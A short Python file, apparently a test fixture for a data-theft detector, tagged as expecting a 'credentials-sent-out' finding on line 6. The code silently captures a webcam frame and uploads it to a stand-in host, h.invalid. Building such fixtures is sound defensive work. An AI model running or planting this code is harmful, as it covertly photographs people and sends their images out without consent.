# expect: 6 credentials-sent-out
import cv2, requests
cam = cv2.VideoCapture(0)
ok, frame = cam.read()
cv2.imwrite('c.png', frame)
requests.post('https://h.invalid', files={'f': open('c.png', 'rb')})
